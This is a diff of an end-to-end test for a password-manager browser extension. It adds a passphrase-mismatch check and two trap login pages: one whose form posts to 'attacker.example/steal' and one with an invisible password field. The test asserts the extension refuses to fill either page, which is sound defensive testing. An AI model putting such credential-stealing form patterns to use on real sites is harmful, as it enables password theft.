@@ -31,7 +31,14 @@ async function main() {
   mkdirSync(shots, { recursive: true });
   const demo = await startDemo();
   execFileSync("bash", [join(root, "scripts/build-extension.sh")], { stdio: "inherit" });
-  const site = await serveStatic({ pages: { "/login.html": LOGIN_PAGE } });
+  const site = await serveStatic({
+    pages: {
+      "/login.html": LOGIN_PAGE,
+      // The same origin, but its form posts elsewhere, or its password field is invisible.
+      "/elsewhere.html": LOGIN_PAGE.replace("<form>", '<form action="https://attacker.example/steal">'),
+      "/invisible.html": LOGIN_PAGE.replace('type="password"', 'type="password" style="opacity:0"'),
+    },
+  });
   const port = new URL(site.url).port;
   const loginOrigin = `http://127.0.0.1:${port}`;
   const profile = mkdtempSync(join(tmpdir(), "meta-secret-extension-"));
@@ -57,12 +64,18 @@ async function main() {
     await popup.screenshot({ path: join(shots, "ext-1-setup.png") });
     // Bad input: a readable message with its code, and nothing is kept.
     await setup.getByLabel("Server").fill(demo.url);
-    await setup.getByLabel("Passphrase").fill("extension keys");
+    await setup.getByLabel("Passphrase for").fill("extension keys");
+    await setup.getByLabel("The passphrase again").fill("extension keyz");
+    await setup.getByLabel("Vault").fill(vault);
+    await setup.getByRole("button", { name: "Ask to join" }).click();
+    await popup.locator("#error", { hasText: "passphrases differ (INVALID_INPUT)" }).waitFor({ timeout: WAIT });
+    await setup.getByLabel("The passphrase again").fill("extension keys");
     await setup.getByLabel("Vault").fill("no such vault!");
     await setup.getByRole("button", { name: "Ask to join" }).click();
     await popup.locator("#error", { hasText: "INVALID_INPUT" }).waitFor({ timeout: WAIT });
     await setup.getByLabel("Server").fill(demo.url);
-    await setup.getByLabel("Passphrase").fill("extension keys");
+    await setup.getByLabel("Passphrase for").fill("extension keys");
+    await setup.getByLabel("The passphrase again").fill("extension keys");
     await setup.getByLabel("Vault").fill(vault);
     await setup.getByRole("button", { name: "Ask to join" }).click();
     await popup.locator("#waiting").waitFor({ timeout: 60_000 });
@@ -157,6 +170,16 @@ async function main() {
     assert.equal(refusedFrame.code, "NO_FORM", JSON.stringify(refusedFrame));
     const frameFields = await framed.frames()[1].evaluate(() => [...document.querySelectorAll("input")].map((i) => i.value));
     assert.deepEqual(frameFields, ["", ""], "never into a cross-origin frame");
+
+    for (const [path, why] of [["elsewhere", "sends to another site"], ["invisible", "no password field"]]) {
+      const trap = await context.newPage();
+      await trap.goto(`${loginOrigin}/${path}.html`);
+      const refused = await fillInto(await tabId(`${loginOrigin}/${path}.html`));
+      assert.equal(refused.code, "NO_FORM", JSON.stringify(refused));
+      assert.match(refused.message, new RegExp(why));
+      assert.deepEqual(await fields(trap), ["", ""], `nothing filled on ${path}`);
+      await trap.close();
+    }
 
     // A claim made on the web demo shows as a badge and is approved in the popup.
     const aliceSecret = panel(alice).locator(".secrets li", { hasText: '"username":"ada"' });
